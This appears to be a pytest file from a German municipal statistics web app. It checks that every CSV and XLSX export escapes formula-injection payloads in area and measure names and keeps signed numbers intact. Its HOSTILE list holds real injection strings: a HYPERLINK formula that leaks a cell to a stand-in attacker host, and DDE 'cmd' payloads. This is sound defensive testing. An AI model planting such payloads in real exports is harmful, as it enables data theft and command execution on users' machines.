"""Every CSV and XLSX the app writes goes through the one formula-injection guard of
``teilhabe.core.spreadsheets``: hostile area, actor and measure names come out neutralised,
signed numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.urls import reverse

from conftest import login
from teilhabe.core.models import Area, AreaKind
from teilhabe.core.spreadsheets import safe_cell, write_csv, write_xlsx
from teilhabe.reports.render import render_xlsx
from teilhabe.statistics.models import Indicator
from teilhabe.statistics.services import catalogue_seed, dataset_import
from teilhabe.statistics.tests.test_services import _small

HOSTILE = [
    '=HYPERLINK("http://angreifer.example/?d="&A1;"Klick")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = ["-0,42", "+1.234,5 %", "-12", "-3,5 %"]


def _neutral(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_guard_neutralises_every_formula_start_and_keeps_signed_numbers():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for number in NUMBERS:
        assert safe_cell(number) == number
    content = write_csv(
        headers=[HOSTILE[0], "Wert"],
        rows=[[h, n] for h, n in zip(HOSTILE, NUMBERS * 2, strict=False)],
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert all(_neutral(row[0]) for row in rows)
    assert [row[1] for row in rows[1:]] == (NUMBERS * 2)[: len(HOSTILE)]
    book = openpyxl.load_workbook(
        io.BytesIO(write_xlsx(sheets=[("Test", [HOSTILE[0]], [[h] for h in HOSTILE])]))
    )
    cells = [c.value for c in book.active["A"]]
    assert all(
        c.startswith("'") or book.active["A"][i].data_type == "s" for i, c in enumerate(cells)
    )
    assert not any(c.data_type == "f" for c in book.active["A"])


def test_report_appendix_neutralises_hostile_area_names():
    doc = {
        "appendix": [
            {
                "title": "Gebiete",
                "columns": ["Gebiet", HOSTILE[1]],
                "rows": [[h, -3] for h in HOSTILE],
            }
        ]
    }
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(doc)))
    sheet = book.active
    assert all(_neutral(c.value) for c in sheet["A"][1:])
    assert _neutral(sheet["B"][0].value)
    assert [c.value for c in sheet["B"][1:]] == [-3] * len(HOSTILE)  # numbers stay numbers


@pytest.mark.django_db
def test_indicator_csv_karte_and_index_csv_neutralise_hostile_area_names(world, client):
    """The indicator's map table (?tabelle=karte) names the areas."""
    world.area.name = HOSTILE[0]
    world.area.save()
    Area.objects.create(
        municipality=world.municipality,
        key="102",
        name=HOSTILE[1],
        kind=AreaKind.STADTTEIL,
        parent=world.area.parent,
    )
    catalogue_seed(municipality=world.municipality)
    dataset_import(
        municipality=world.municipality,
        data=_small(world),
        filename="a.csv",
        fmt="koeln",
        user=None,
    )
    login(client, world.users["reader"])
    indicator = Indicator.objects.get(municipality=world.municipality, code="anteil-auslaender")
    url = reverse("statistics:indicator_csv", args=[world.municipality.ars, indicator.pk])
    for which in ("karte", "zeitreihe"):
        response = client.get(url, {"tabelle": which})
        assert response.status_code == 200
        rows = list(
            csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline=""), delimiter=";")
        )
        assert all(_neutral(cell) for row in rows for cell in row), rows
        if which == "karte":
            names = {row[1] for row in rows[1:] if len(row) > 1}
            assert "'" + HOSTILE[0] in names and "'" + HOSTILE[1] in names


# The files that write CSV or XLSX themselves; all others use ``write_csv``, ``write_xlsx`` or
# ``csv_download`` of the core. A new writer fails this test until it calls ``safe_cell`` and
# is listed here.
WRITERS = {
    "teilhabe/core/spreadsheets.py",
    "teilhabe/inventory/spreadsheets.py",
    "teilhabe/participation/exports.py",
    "teilhabe/reports/render.py",
}
_WRITES = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(|xlsxwriter|\.writestr\(\"xl/")


def test_every_writer_of_spreadsheets_uses_the_guard():
    root = Path(settings.BASE_DIR)
    found = set()
    for path in (root / "teilhabe").rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts:
            continue
        text = path.read_text(encoding="utf-8")
        if _WRITES.search(text):
            found.add(str(path.relative_to(root)))
            assert "safe_cell" in text, f"{path}: writes a spreadsheet without safe_cell"
    assert found == WRITERS
